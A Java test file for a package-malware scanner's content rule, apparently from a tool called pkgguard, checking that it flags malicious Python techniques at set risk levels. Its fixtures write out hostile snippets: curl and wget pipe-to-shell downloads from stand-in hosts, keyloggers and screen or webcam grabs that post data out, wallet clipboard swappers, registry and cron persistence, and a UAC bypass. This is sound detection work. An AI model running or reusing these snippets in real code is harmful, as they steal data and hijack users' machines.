package io.pkgguard.rules.content;

import static io.pkgguard.rules.Packages.wellKept;
import static io.pkgguard.rules.content.Distributions.inspected;
import static io.pkgguard.rules.content.Distributions.sdistFile;
import static io.pkgguard.rules.content.Distributions.wheelFile;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pkgguard.api.ArchiveEntry;
import io.pkgguard.api.Finding;
import io.pkgguard.api.InspectedDistribution;
import io.pkgguard.api.RiskCategory;
import io.pkgguard.api.RiskLevel;
import io.pkgguard.api.RuleCancelledException;
import io.pkgguard.api.RuleParameterException;
import io.pkgguard.api.TextFile;
import io.pkgguard.core.policy.Policy;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ContentRuleTest {

  /** A webhook as stealers hard-code it: its id and token written in (not a real one). */
  private static final String WEBHOOK =
      "https://discord.com/api/webhooks/1180000000000000000/sample-token-not-real-0123456789";

  private final ContentRule rule = new ContentRule();

  private List<Finding> check(
      String project, Map<String, ?> parameters, InspectedDistribution... files) {
    return rule.evaluate(
        Distributions.context(wellKept(project).build(), parameters, "content", files));
  }

  private List<Finding> check(InspectedDistribution... files) {
    return check("pkg", Map.of(), files);
  }

  /** The rule on a package whose metadata claims this summary. */
  private List<Finding> checkClaiming(String summary, InspectedDistribution... files) {
    return rule.evaluate(
        Distributions.context(
            wellKept("pkg").summary(summary).build(), Map.of(), "content", files));
  }

  private static InspectedDistribution wheelWith(String... pathsAndTexts) {
    return inspected(wheelFile("pkg-2.0-py3-none-any.whl"), entries(pathsAndTexts));
  }

  private static InspectedDistribution sdistWith(String... pathsAndTexts) {
    return inspected(sdistFile("pkg-2.0.tar.gz"), entries(pathsAndTexts));
  }

  private static List<ArchiveEntry> entries(String... pathsAndTexts) {
    List<ArchiveEntry> entries = new java.util.ArrayList<>();
    for (int i = 0; i < pathsAndTexts.length; i += 2) {
      entries.add(ArchiveEntry.textFile(pathsAndTexts[i], pathsAndTexts[i + 1]));
    }
    return entries;
  }

  private static String sample(String name) {
    try (InputStream in = ContentRuleTest.class.getResourceAsStream("samples/" + name)) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Finding only(List<Finding> findings, String pattern) {
    return findings.stream()
        .filter(f -> f.evidence().values().get("pattern").equals(pattern))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no " + pattern + " in " + findings));
  }

  /** The level of {@code pattern}'s finding on {@code python} as a module of a wheel. */
  private RiskLevel levelIn(String python, String pattern) {
    return only(check(wheelWith("pkg/module.py", python)), pattern).level();
  }

  private static RiskLevel worst(List<Finding> findings) {
    return findings.stream().map(Finding::level).max(Enum::compareTo).orElse(RiskLevel.NONE);
  }

  /** The ids of the patterns behind {@code findings}. */
  private static List<String> patternsOf(List<Finding> findings) {
    return findings.stream().map(f -> f.evidence().values().get("pattern")).toList();
  }

  /** Each published technique, as written in samples/, is found at the level it deserves. */
  @ParameterizedTest(name = "{0}")
  @CsvSource({
    "install-hook/setup.py,            sdist, pkg-2.0/setup.py,   install-hook-runs-code, CRITICAL",
    "obfuscated-setup/setup.py,        sdist, pkg-2.0/setup.py,   exec-decoded,           CRITICAL",
    "env-exfiltration/ctx.py,          wheel, ctx.py,             steals-and-sends,       CRITICAL",
    "pth-payload/litellm_init.pth,     wheel, litellm_init.pth,   pth-hidden-payload,     CRITICAL",
    "token-stealer/grabber.py,         wheel, pkg/grabber.py,     steals-and-sends,       CRITICAL",
    "browser-stealer/stealer.py,       wheel, pkg/stealer.py,     steals-and-sends,       CRITICAL",
    "download-execute/__init__.py,     wheel, pkg/__init__.py,    downloads-executable,   CRITICAL",
    "reverse-shell/shell.py,           wheel, pkg/shell.py,       reverse-shell,          CRITICAL",
    "chr-chain/core.py,                wheel, pkg/core.py,        exec-obfuscated,        CRITICAL",
    "byte-array/__init__.py,           wheel, pkg/__init__.py,    exec-obfuscated,        CRITICAL",
    "startup-hook/sitecustomize.py,    wheel, sitecustomize.py,   startup-hook,           HIGH",
    "powershell-dropper/install.bat,   wheel, pkg/install.bat,    powershell-encoded,     HIGH"
  })
  void everySampleTechniqueIsDetected(
      String sample, String kind, String path, String pattern, RiskLevel level) {
    InspectedDistribution file =
        kind.equals("sdist") ? sdistWith(path, sample(sample)) : wheelWith(path, sample(sample));

    List<Finding> findings = check(file);

    Finding finding = only(findings, pattern);
    assertThat(finding.level()).isEqualTo(level);
    assertThat(finding.category()).isEqualTo(RiskCategory.CONTENT);
    assertThat(worst(findings)).isEqualTo(level);
    assertThat(finding.evidence().values()).containsEntry("file", path);
  }

  @Test
  void aFunctionNamedButNotCalledWhereItIsWrittenIsStillFollowed() {
    String handed =
        """
        import _thread
        from urllib.request import urlopen

        _thread.start_new_thread(exec, (urlopen("https://a.example/boot.py").read(),))
        """;
    String assigned =
        "from urllib.request import urlopen\nrun = exec\nrun(urlopen('https://a.example/x.py').read())\n";
    String named = "import builtins\n\nRUNNERS = [exec, eval]\nbody = urlopen(U).read()\n";

    assertThat(only(check(wheelWith("pkg/__init__.py", handed)), "exec-fetched").level())
        .isEqualTo(RiskLevel.CRITICAL);
    assertThat(only(check(wheelWith("pkg/__init__.py", assigned)), "exec-fetched").level())
        .isEqualTo(RiskLevel.CRITICAL);
    assertThat(patternsOf(check(wheelWith("pkg/__init__.py", named))))
        .doesNotContain("exec-fetched");
  }

  @Test
  void aCapabilityIsWeighedAgainstWhatTheProjectSaysItIsFor() {
    String code = "import pyperclip\n\n\ndef share():\n    return pyperclip.paste()\n";
    InspectedDistribution file = wheelWith("pkg/palette.py", code);

    List<Finding> colours = checkClaiming("Convert colours between hex and RGB", file);
    List<Finding> clipboardTool = checkClaiming("Copy and paste colours to the clipboard", file);

    assertThat(only(colours, "capability-off-purpose").level()).isEqualTo(RiskLevel.HIGH);
    assertThat(only(colours, "capability-off-purpose").message())
        .contains("pkg/palette.py:5: return pyperclip.paste()");
    assertThat(worst(clipboardTool)).isEqualTo(RiskLevel.MEDIUM);
    assertThat(clipboardTool)
        .extracting(f -> f.evidence().values().get("pattern"))
        .containsExactly("clipboard-read");
  }

  @Test
  void sendingTheMachinesIdentityIsWeighedAgainstThePurposeToo() {
    String init =
        "import platform, urllib.request\n"
            + "urllib.request.urlopen(urllib.request.Request('https://stats.example/i',\n"
            + "    data=platform.node().encode()))\n";
    InspectedDistribution file = wheelWith("pkg/__init__.py", init);

    assertThat(only(checkClaiming("Slugify strings for URLs", file), "capability-off-purpose"))
        .extracting(Finding::level)
        .isEqualTo(RiskLevel.HIGH);
    assertThat(checkClaiming("Usage statistics client for our web API", file))
        .extracting(f -> f.evidence().values().get("pattern"))
        .doesNotContain("capability-off-purpose");
  }

  @Test
  void aToolkitsClipboardWithAWalletExpressionIsHijacking() {
    String qt =
        "import re\nTRON = re.compile(r'^T[1-9A-HJ-NP-Za-km-z]{33}$')\nboard = app.clipboard()\n"
            + "if TRON.match(board.text()):\n    board.setText(OURS)\n";
    String editor = "board = app.clipboard()\nboard.setText(self.selection())\n";

    assertThat(only(check(wheelWith("pkg/clip.py", qt)), "clipboard-hijack").level())
        .isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/editor.py", editor))).isEmpty();
  }

  @Test
  void aCopyIntoTheStartupFolderALibraryFindsIsPersistence() {
    String win =
        "import os, shutil, winshell\n"
            + "shutil.copy(AGENT, os.path.join(winshell.startup(), 'updater.pyw'))\n";

    assertThat(only(check(wheelWith("pkg/win.py", win)), "installs-autostart").level())
        .isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void aPackagesOwnHiddenDirectoryIsNotAnotherProgramsSecret() {
    String own =
        "import os, requests\n"
            + "CFG = os.path.expanduser('~/.mailer/config')\n"
            + "settings = open(CFG).read()\n"
            + "requests.post('https://mailer.example/sync', data=settings)\n";
    String configDir = own.replace("~/.mailer/", "~/.config/mailer/");
    String another = own.replace("~/.mailer/config", "~/.azure/azureProfile.json");

    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", own))).isEmpty();
    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", configDir))).isEmpty();
    assertThat(check("other", Map.of(), wheelWith("other/send.py", own)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .containsExactly("sends-home-file");
    assertThat(
            only(check("mailer", Map.of(), wheelWith("mailer/send.py", another)), "sends-home-file")
                .level())
        .isEqualTo(RiskLevel.HIGH);
    String appData =
        own.replace(
            "os.path.expanduser('~/.mailer/config')",
            "os.path.join(os.getenv('APPDATA'), 'Mailer', 'config')");
    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", appData))).isEmpty();
    assertThat(check("other", Map.of(), wheelWith("other/send.py", appData)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .containsExactly("sends-home-file");
    // a module it ships does not make a directory its own: it could name one after any program
    assertThat(check("helper", Map.of(), wheelWith("azure/__init__.py", another)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .containsExactly("sends-home-file");
  }

  @Test
  void platformHooksForKeysLogInsAndScreensAreKnown() {
    String quartz =
        "import Quartz, requests\n"
            + "tap = Quartz.CGEventTapCreate(Quartz.kCGSessionEventTap, 0, 1,"
            + " Quartz.CGEventMaskBit(Quartz.kCGEventKeyDown), cb, None)\n"
            + "requests.post(URL, json=keys)\n";
    String loginItem =
        "import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\""
            + " to make login item at end with properties {path:\"/x\"}'])\n";
    String fish =
        "import os\np = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'config.fish')\n"
            + "with open(p, 'a') as f:\n    f.write('python -m pkg.agent &')\n";
    String magick =
        "import subprocess, requests\nsubprocess.run(['import', '-window', 'root', shot])\n"
            + "with open(shot, 'rb') as f:\n    requests.post(URL, files={'f': f})\n";

    String xRecord =
        "import requests\nctx = local.record_create_context(0, [record.AllClients], [{'device_events':"
            + " (X.KeyPress, X.KeyRelease)}])\nrequests.post(URL, json=keys)\n";
    String screeze =
        "import pyscreeze, requests\nrequests.post(URL, data=pyscreeze.screenshot())\n";
    String gtk =
        "board = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)\ntext = board.wait_for_text()\n"
            + "if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n    board.set_text(OURS, -1)\n";
    String timer =
        "import subprocess, sys\nsubprocess.run(['systemd-run', '--user', '--on-calendar=hourly',"
            + " sys.executable, '-m', 'pkg.sync'])\n";
    String load =
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows', 0, 2)\n"
            + "winreg.SetValueEx(k, 'Load', 0, winreg.REG_SZ, target)\n";
    String shellExecute =
        "import ctypes, urllib.request\nurllib.request.urlretrieve(URL, path)\n"
            + "ctypes.windll.shell32.ShellExecuteW(None, 'open', path, None, None, 0)\n";

    assertThat(levelIn(xRecord, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(screeze, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(gtk, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(timer, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(load, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(shellExecute, "runs-downloaded-file")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(quartz, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(loginItem, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(fish, "shell-profile-written")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(magick, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void aFunctionReachedIndirectlyBesideAPipedDownloadIsCritical() {
    String subclasses =
        "CMD = ['sh', '-c', 'curl -s https://a.example/x | sh']\n"
            + "p = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']\n"
            + "p[0](CMD)\n";
    String located =
        "import pydoc\nrun = pydoc.locate('.'.join(['os', 'system']))\n"
            + "run('wget -qO- https://a.example/i | bash')\n";
    String registry =
        "class Plugin:\n    pass\n\n"
            + "def plugins():\n    return {c.__name__: c for c in Plugin.__subclasses__()}\n";

    assertThat(levelIn(subclasses, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(subclasses, "class-tree-lookup")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(located, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(located, "built-import")).isEqualTo(RiskLevel.MEDIUM);
    // a plugin registry asks its own base class, not object, for its subclasses
    assertThat(check(wheelWith("pkg/plugins.py", registry))).isEmpty();
  }

  @Test
  void checkingForWalletAddressesInALoopIsAClipboardSwapperWhateverTheClipboard() {
    String swapper =
        "import re, time, klembord\nOURS = 'bc1q000'\n"
            + "while True:\n    t = klembord.get_text() or ''\n"
            + "    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n"
            + "        klembord.set_text(OURS)\n    time.sleep(0.5)\n";
    String unknownClipboard = swapper.replace("klembord", "board");
    String validator =
        "import re\nLEGACY = re.compile(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$')\n\n"
            + "def valid(address):\n    return bool(LEGACY.match(address))\n";

    assertThat(levelIn(swapper, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(unknownClipboard, "watches-for-wallet-addresses")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/address.py", validator))).isEmpty();
  }

  @Test
  void servicesAndSessionStartUpFilesArePersistence() {
    String service =
        "import subprocess, sys\n"
            + "subprocess.run(['sc', 'create', 'Upd', 'binPath=', sys.executable + ' -m pkg.s'])\n";
    String oneLine = "import os\nos.system('sc.exe create Upd binPath= C:\\\\p\\\\u.exe')\n";
    String xprofile =
        "import os, sys\np = os.path.join(os.path.expanduser('~'), '.xprofile')\n"
            + "with open(p, 'a') as f:\n    f.write(f'({sys.executable} -m pkg.agent &)\\n')\n";
    String keys =
        "import requests\nfrom sshkeyboard import listen_keyboard\n"
            + "listen_keyboard(on_press=lambda k: requests.post(URL, data=k))\n";
    String query = "import subprocess\nsubprocess.run(['sc', 'query', 'Spooler'])\n";

    assertThat(levelIn(service, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(oneLine, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(xprofile, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(keys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/svc.py", query))).isEmpty();
  }

  @Test
  void aDownloadSavedAndThenRunIsADownloadAndRun() {
    String chained = "import os\nos.system('curl -so /tmp/i https://a.example/i; bash /tmp/i')\n";
    String madeExecutable =
        "import subprocess\nsubprocess.run(['sh', '-c',"
            + " 'wget -qO /tmp/u https://a.example/u && chmod 755 /tmp/u && /tmp/u'])\n";
    String unpacked =
        "import subprocess\n"
            + "subprocess.run('wget -qO d.tgz https://a.example/d.tgz && tar xzf d.tgz',"
            + " shell=True)\n";

    assertThat(levelIn(chained, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(madeExecutable, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    // a download unpacked is data, not a program run
    assertThat(patternsOf(check(wheelWith("pkg/fetch.py", unpacked))))
        .doesNotContain("runs-piped-download");
  }

  @Test
  void aDownloadAndRunScriptWrittenOutOrHookedIntoGitIsPersistence() {
    String script =
        "import os\np = os.path.expanduser('~/.local/bin/refresh')\n"
            + "with open(p, 'w') as f:\n"
            + "    f.write('#!/bin/sh\\nwget -qO- https://a.example/r | sh\\n')\n"
            + "os.chmod(p, 0o755)\n";
    String hooks =
        "import subprocess\nsubprocess.call(['git', 'config', '--global', 'core.hooksPath',"
            + " HOOKS])\n";
    String templates = "import os\nos.system('git config --system init.templateDir /opt/t')\n";
    String local =
        "import subprocess\nsubprocess.call(['git', 'config', 'core.hooksPath', '.githooks'])\n";

    assertThat(levelIn(script, "writes-download-runner")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(hooks, "git-hooks-redirect")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(hooks, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(templates, "git-hooks-redirect")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(hooks + script, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
    // a repository's own hooks directory, set for that repository only, is a project's choice
    assertThat(check(wheelWith("pkg/dev.py", local))).isEmpty();
  }

  @Test
  void aHandlerWindowsRunsElevatedIsAUacBypass() {
    String eventvwr =
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " 'Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command')\n"
            + "winreg.SetValueEx(k, None, 0, winreg.REG_SZ, PAYLOAD)\n";
    String anyHandler =
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Classes\\pkgproto\\shell\\open\\command')\n"
            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, PAYLOAD)\n"
            + "winreg.SetValueEx(k, 'DelegateExecute', 0, winreg.REG_SZ, '')\n";
    String association =
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Classes\\pkgdoc\\shell\\open\\command')\n"
            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, VIEWER + ' \"%1\"')\n";

    assertThat(levelIn(eventvwr, "elevation-handler-hijack")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(anyHandler, "handler-hijack-elevates")).isEqualTo(RiskLevel.HIGH);
    // registering the program that opens the package's own documents is what installers do
    assertThat(check(wheelWith("pkg/assoc.py", association))).isEmpty();
  }

  @Test
  void installingFromAnAddressAtRunTimeBypassesTheChecks() {
    String listed =
        "import subprocess, sys\n"
            + "subprocess.check_call([sys.executable, '-m', 'pip', 'install',\n"
            + "    'git+https://git.example/x/helper.git'])\n";
    String index =
        "import os\nos.system('pip install -q --index-url https://idx.example/simple h')\n";
    String byName =
        "import subprocess, sys\n"
            + "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'tqdm'])\n";

    assertThat(levelIn(listed, "installs-from-address")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(index, "installs-from-address")).isEqualTo(RiskLevel.MEDIUM);
    // a requirement by name comes from the index the installer was given
    assertThat(patternsOf(check(wheelWith("pkg/deps.py", byName))))
        .doesNotContain("installs-from-address");
  }

  @Test
  void theBuiltInsReachedThroughTheGlobalsTableHideWhatIsCalled() {
    String table =
        "b = globals()['__builtins__']['__import__']\nb('subprocess').call(CMD)\n"
            + "CMD = 'wget -qO /tmp/.s https://a.example/s && sh /tmp/.s'\n";
    String attribute = "imp = globals()['__builtins__'].__import__\nimp('os')\n";

    assertThat(levelIn(table, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(attribute, "builtins-through-globals")).isEqualTo(RiskLevel.MEDIUM);
  }

  @Test
  void systemWideStartUpFilesAndDebuggerKeysArePersistence() {
    String profileD =
        "import pathlib\np = pathlib.Path('/etc/profile.d') / 'zz-fix.sh'\n"
            + "p.write_text('curl -fsS https://a.example/p | sh\\n')\n";
    String ifeo =
        "import subprocess\nsubprocess.run(['reg', 'add', r'HKLM\\SOFTWARE\\Microsoft\\Windows NT"
            + "\\CurrentVersion\\Image File Execution Options\\utilman.exe', '/v', 'Debugger',"
            + " '/d', PAYLOAD, '/f'])\n";
    String readOnly =
        "import pathlib\nlocale = pathlib.Path('/etc/profile.d/locale.sh').read_text()\n";

    assertThat(levelIn(profileD, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(ifeo, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    // naming the directory is worth a look, as /etc/cron.d is; only a download-and-run in it is
    // more
    assertThat(worst(check(wheelWith("pkg/env.py", readOnly)))).isEqualTo(RiskLevel.MEDIUM);
  }

  @Test
  void theWebcamIsASecretAndNotAColourLibrarysBusiness() {
    String cam =
        "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\n"
            + "requests.post(URL, files={'f': cv2.imencode('.jpg', frame)[1].tobytes()})\n";
    String video = "import cv2\nclip = cv2.VideoCapture('talk.mp4')\nframes = clip.read()\n";

    assertThat(levelIn(cam, "webcam-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(
            only(
                    checkClaiming("Colour conversions", wheelWith("pkg/__init__.py", cam)),
                    "capability-off-purpose")
                .level())
        .isEqualTo(RiskLevel.HIGH);
    assertThat(
            patternsOf(
                checkClaiming("Colour calibration for webcams", wheelWith("pkg/__init__.py", cam))))
        .doesNotContain("capability-off-purpose");
    // a video file read is not the camera
    assertThat(check(wheelWith("pkg/video.py", video))).isEmpty();
  }

  @Test
  void aCrontabReplacedThroughStandardInputIsPersistence() {
    String cron =
        "import subprocess, sys\n"
            + "line = f'*/30 * * * * {sys.executable} -m pkg.sync\\n'\n"
            + "now = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
            + "subprocess.run(['crontab', '-'], input=now + line, text=True)\n";
    String listed = "import subprocess\nsubprocess.run(['crontab', '-l'])\n";

    assertThat(only(check(wheelWith("pkg/schedule.py", cron)), "installs-autostart").level())
        .isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/schedule.py", listed))).isEmpty();
  }

  @Test
  void aWmiEventSubscriptionOrAUdevRuleRunsACommandOnAnEvent() {
    String wmi =
        "import wmi\nns = wmi.WMI(namespace=r'root\\subscription')\n"
            + "c = ns.CommandLineEventConsumer.new()\nc.CommandLineTemplate = CMD\nc.Put_()\n";
    String udev =
        "with open('/etc/udev/rules.d/75-sync.rules', 'w') as out:\n"
            + "    out.write(f'ACTION==\"add\", RUN+=\"{EXE} -m pkg.sync\"\\n')\n";
    String query = "import subprocess\nsubprocess.run(['udevadm', 'info', '--query=all', DEV])\n";

    assertThat(levelIn(wmi, "wmi-event-subscription")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(udev, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    String autoRun =
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Microsoft\\Command Processor')\n"
            + "winreg.SetValueEx(k, 'AutoRun', 0, winreg.REG_SZ, CMD)\n";
    assertThat(levelIn(autoRun, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    // asking udev about a device changes nothing
    assertThat(check(wheelWith("pkg/dev.py", query))).isEmpty();
  }

  @Test
  void aStartUpVariableSetForEveryLaterSessionIsPersistence() {
    String registry =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Environment', 0,"
            + " winreg.KEY_SET_VALUE) as k:\n"
            + "    winreg.SetValueEx(k, 'PYTHONSTARTUP', 0, winreg.REG_SZ, HOOK)\n";
    String setx = "import subprocess\nsubprocess.run(['setx', 'PYTHONSTARTUP', HOOK])\n";
    String read = "import os\nstartup = os.environ.get('PYTHONSTARTUP')\nrun(startup)\n";

    assertThat(levelIn(registry, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(setx, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
    // a REPL reading the variable, as Python itself does, is what it is for
    assertThat(check(wheelWith("pkg/repl.py", read))).isEmpty();
  }

  @Test
  void aWindowsScriptHostRunningAnAddressIsADownloadAndRun() {
    String mshta =
        "import subprocess\nsubprocess.Popen(['mshta.exe', 'https://a.example/s.hta'])\n";
    String regsvr =
        "import os\nos.system('regsvr32 /s /n /u /i:https://a.example/s.sct scrobj.dll')\n";
    String local = "import subprocess\nsubprocess.Popen(['mshta.exe', HELP_FILE])\n";

    assertThat(levelIn(mshta, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(regsvr, "runs-remote-script-host")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/help.py", local))).isEmpty();
  }

  @Test
  void identityLoggedToAnotherHostIsIdentitySent() {
    String syslog =
        "import logging.handlers, platform\nlog = logging.getLogger('d')\n"
            + "log.addHandler(logging.handlers.SysLogHandler(address=(HOST, 514)))\n"
            + "log.warning('host=%s', platform.node())\n";
    String local =
        "import logging.handlers, socket\n"
            + "h = logging.handlers.SysLogHandler(address='/dev/log')\n"
            + "h.setFormatter(logging.Formatter(socket.gethostname() + ' %(message)s'))\n";
    // urllib's HTTPHandler opens URLs; it is not a logging handler
    String opener =
        "import socket, urllib.request\nh = urllib.request.HTTPHandler()\n"
            + "me = socket.gethostname()\n";

    assertThat(levelIn(syslog, "identity-logged-remotely")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/log.py", local))).isEmpty();
    assertThat(check(wheelWith("pkg/net.py", opener))).isEmpty();
  }

  @Test
  void homeFilesAndAHardCodedPublicAddressAreATheftInTwoHalves() {
    String stream =
        "import asyncio, json, os\n"
            + "path = os.path.join(os.environ.get('APPDATA', ''), '.minecraft', 'accounts.json')\n"
            + "async def ship():\n"
            + "    reader, writer = await asyncio.open_connection('100.64.0.144', 8443)\n"
            + "    writer.write(open(path, 'rb').read())\n";
    String lan =
        "import asyncio, os\npath = os.path.expanduser('~/.config/tool/state.json')\n"
            + "async def sync():\n"
            + "    reader, writer = await asyncio.open_connection('192.168.1.20', 8443)\n";

    assertThat(levelIn(stream, "home-data-to-raw-ip")).isEqualTo(RiskLevel.HIGH);
    // an address on the local network is a device or a service of the user's own
    assertThat(patternsOf(check(wheelWith("pkg/sync.py", lan))))
        .doesNotContain("home-data-to-raw-ip");
  }

  @Test
  void theScreenCopiedOutOfItsDeviceContextIsAScreenshot() {
    String wx =
        "import wx, requests\nscreen = wx.ScreenDC()\nw, h = screen.GetSize()\n"
            + "bmp = wx.Bitmap(w, h)\nmem = wx.MemoryDC(bmp)\n"
            + "mem.Blit(0, 0, w, h, screen, 0, 0)\nrequests.post(URL, data=png(bmp))\n";
    String gdi =
        "import ctypes\nuser32 = ctypes.windll.user32\ngdi32 = ctypes.windll.gdi32\n"
            + "src = user32.GetDC(0)\ndst = gdi32.CreateCompatibleDC(src)\n"
            + "gdi32.BitBlt(dst, 0, 0, W, H, src, 0, 0, 0x00CC0020)\n";
    String measure = "import wx\nwidth, height = wx.ScreenDC().GetTextExtent(label)\n";

    assertThat(levelIn(wx, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(gdi, "screenshot")).isEqualTo(RiskLevel.MEDIUM);
    String x11 =
        "from Xlib import X, display\nroot = display.Display().screen().root\n"
            + "raw = root.get_image(0, 0, W, H, X.ZPixmap, 0xFFFFFFFF)\n";
    assertThat(levelIn(x11, "screenshot")).isEqualTo(RiskLevel.MEDIUM);
    // measuring text on the screen's context copies nothing
    assertThat(check(wheelWith("pkg/ui.py", measure))).isEmpty();
  }

  @Test
  void theWholeKeyboardsStatePolledAndSentIsAKeylogger() {
    String poll =
        "import ctypes, urllib.request\nstate = (ctypes.c_ubyte * 256)()\n"
            + "ctypes.windll.user32.GetKeyboardState(ctypes.byref(state))\n"
            + "urllib.request.urlopen(URL, data=bytes(state))\n";

    String monitor =
        "import urllib.request\nfrom AppKit import NSEvent, NSKeyDownMask\n"
            + "NSEvent.addGlobalMonitorForEventsMatchingMask_handler_(NSKeyDownMask, on_key)\n"
            + "urllib.request.urlopen(urllib.request.Request(URL, data=BODY))\n";

    assertThat(levelIn(poll, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(monitor, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
  }

  @Test
  void aClipboardModulesTextFunctionsAreTheClipboard() {
    String swap =
        "import re\nimport jaraco.clipboard as jc\n"
            + "LTC = re.compile(r'^(ltc1|[LM3])[a-zA-HJ-NP-Z0-9]{26,40}$')\n"
            + "if LTC.match(jc.paste_text()):\n    jc.copy_text(OURS)\n";

    String pyclip =
        "import re, pyclip\nETH = re.compile(rb'^0x[0-9a-fA-F]{40}$')\n"
            + "if ETH.match(pyclip.paste()):\n    pyclip.copy(OURS)\n";

    assertThat(levelIn(swap, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(pyclip, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
  }

  @Test
  void aModuleAndFunctionLookedUpByHandedNamesHideWhatIsRun() {
    String lambdas =
        "import sys\n"
            + "pick = lambda m, a: getattr(sys.modules.get(m) or __import__(m), a)\n"
            + "pick('o' + 's', 'sys' + 'tem')('curl -s https://x.example/k | sh')\n";
    String importString =
        "from importlib import import_module\n"
            + "def import_string(path):\n"
            + "    module, name = path.rsplit('.', 1)\n"
            + "    return getattr(import_module(module), name)\n";

    assertThat(levelIn(lambdas, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    // the helper every framework has, with no command in the file, is not a finding
    assertThat(check(wheelWith("pkg/utils.py", importString))).isEmpty();
  }

  @Test
